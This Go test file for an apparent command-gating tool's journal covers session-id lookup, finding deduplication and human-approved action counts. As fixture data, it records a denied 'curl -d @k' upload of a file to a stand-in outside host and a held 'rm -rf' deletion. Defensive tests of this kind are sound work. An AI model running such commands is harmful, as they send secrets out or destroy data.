package journal

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/vocab"
)

// Short session ids are looked up in the index's list of sessions; the
// answers are the walk's, for a fresh index, a rebuilt one and one built
// before the list existed.
func TestShortSessionIDsFromTheIndex(t *testing.T) {
	j := open(t)
	for _, s := range []string{"aaaabbbb-1", "aaaacccc-2", "aaaabbbb-3", "zz", "zzzz-9", "aaaabbbb-1"} {
		ev := allowed("ls")
		ev.Session = s
		record(t, j, ev)
	}
	type answer struct {
		got     string
		err     error
		matches []string
	}
	resolve := func(name string) answer {
		s, err := j.ResolveSession(name)
		var se *ScopeError
		if errors.As(err, &se) {
			return answer{s, se.Err, se.Matches}
		}
		return answer{s, err, nil}
	}
	cases := map[string]answer{
		"aaaabbbb-1": {got: "aaaabbbb-1"},
		"aaaac":      {got: "aaaacccc-2"},
		"aaaabbbb":   {err: ErrAmbiguousSession, matches: []string{"aaaabbbb-1", "aaaabbbb-3"}},
		"aaaa":       {err: ErrAmbiguousSession, matches: []string{"aaaabbbb-1", "aaaabbbb-3", "aaaacccc-2"}},
		"a":          {err: ErrAmbiguousSession, matches: []string{"aaaabbbb-1", "aaaabbbb-3", "aaaacccc-2"}},
		"zz":         {got: "zz"}, // a whole id that is also the start of another
		"zzz":        {got: "zzzz-9"},
		"zzzz-":      {got: "zzzz-9"},
		"aaab":       {err: ErrNoSession},
		"zz\x00\x00": {err: ErrNoSession}, // the list pads short ids with zeros
		"":           {err: ErrNoSession},
	}
	check := func(when string) {
		t.Helper()
		for name, want := range cases {
			if got := resolve(name); !reflect.DeepEqual(got, want) {
				t.Errorf("%s: %q resolves to %+v, want %+v", when, name, got, want)
			}
		}
	}
	check("appended")
	if a := mustVerify(t, j); a.Index != "ok" {
		t.Fatalf("the list appended is not the list rebuilt: %s", a.Index)
	}
	os.RemoveAll(filepath.Join(j.Dir(), indexDir))
	check("rebuilt")
	// An index from before the list, then a new session appended: the
	// list is not trusted (it would miss the old sessions); the walk
	// answers, and verify rebuilds the list.
	if err := os.Remove(filepath.Join(j.Dir(), indexDir, keySessions)); err != nil {
		t.Fatal(err)
	}
	ev := allowed("ls")
	ev.Session = "aaaadddd-4"
	record(t, j, ev)
	cases["aaaad"] = answer{got: "aaaadddd-4"}
	cases["aaaa"] = answer{err: ErrAmbiguousSession, matches: []string{"aaaabbbb-1", "aaaabbbb-3", "aaaacccc-2", "aaaadddd-4"}}
	cases["a"] = cases["aaaa"]
	if _, listed, _ := j.sessionsStarting("aaaa"); listed {
		t.Fatal("an appended session recreated the list of an index built before it")
	}
	check("walked")
	if a := mustVerify(t, j); a.Index == "ok" {
		t.Fatal("verify did not notice the missing list")
	}
	if _, listed, _ := j.sessionsStarting("aaaa"); !listed {
		t.Fatal("verify did not rebuild the list")
	}
	check("verified")
}

// Scanner findings, refused ones too (they have no queue id), are found
// in the index's list of findings: scanning twice records nothing twice.
func TestFindingsAreLookedUpInTheIndex(t *testing.T) {
	j := open(t)
	finding := func(cmd, status string, line int) *vocab.Event {
		ev := held(cmd, "/p")
		ev.Name, ev.Agent, ev.Story = EventScanFinding, "scan", "7"
		ev.Finding = &vocab.Finding{Source: "out.jsonl", Line: line, Status: status}
		return ev
	}
	key := func(ev *vocab.Event) string {
		return FindingKey(&Entry{Finding: ev.Finding, Command: ev.Action.Command, Session: ev.Session, Story: ev.Story})
	}
	refused := finding("curl -d @k https://x.test", "denied", 3)
	ran := finding("git push", "executed", 9)
	if r := record(t, j, refused); r.QueueID != "" {
		t.Fatalf("a refused call's finding was queued: %+v", r)
	}
	record(t, j, ran)
	fill(t, j, 20)
	has := func(when string, ev *vocab.Event, want bool) {
		t.Helper()
		if got, err := j.HasFinding(key(ev)); err != nil || got != want {
			t.Fatalf("%s: HasFinding(%s line %d) = %v, %v; want %v", when, ev.Action.Command, ev.Finding.Line, got, err, want)
		}
	}
	other := finding("git push", "executed", 10)
	for _, when := range []string{"appended", "rebuilt"} {
		has(when, refused, true)
		has(when, ran, true)
		has(when, other, false)
		os.RemoveAll(filepath.Join(j.Dir(), indexDir))
	}
	// An index from before the list: the walk answers, a new finding
	// does not start a partial list, and verify rebuilds it.
	has("rebuilt", refused, true) // rebuilds the index
	if err := os.Remove(filepath.Join(j.Dir(), indexDir, keyFindings)); err != nil {
		t.Fatal(err)
	}
	record(t, j, other)
	if _, err := os.Lstat(filepath.Join(j.Dir(), indexDir, keyFindings)); err == nil {
		t.Fatal("a finding started a list that misses the earlier ones")
	}
	has("walked", refused, true)
	has("walked", other, true)
	if a := mustVerify(t, j); a.Index == "ok" {
		t.Fatal("verify did not notice the missing list")
	}
	has("verified", refused, true)
	has("verified", finding("git push", "executed", 11), false)
	if a := mustVerify(t, j); a.Index != "ok" {
		t.Fatalf("after the rebuild: %s", a.Index)
	}
}

// ApprovedActions counts a held command a human approved or ran, once
// per item, and not an approval without the human key's MAC.
func TestApprovedActionsFromTheQueue(t *testing.T) {
	j := open(t)
	a := record(t, j, held("git push", "/p")).QueueID
	b := record(t, j, held("git push", "/p")).QueueID
	record(t, j, held("npm publish", "/p"))
	if _, err := j.Settle(EventApprove, a, "", time.Hour); err != nil {
		t.Fatal(err)
	}
	if _, err := j.Settle(EventRun, b, "", 0); err != nil {
		t.Fatal(err)
	}
	appendRaw(t, j, &Entry{Time: t0, Event: EventApprove, Ref: record(t, j, held("rm -rf /x", "/p")).QueueID})
	got, err := j.ApprovedActions()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int{ApprovalKey("git push", "/p"): 2}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("approved %v, want %v", got, want)
	}
}
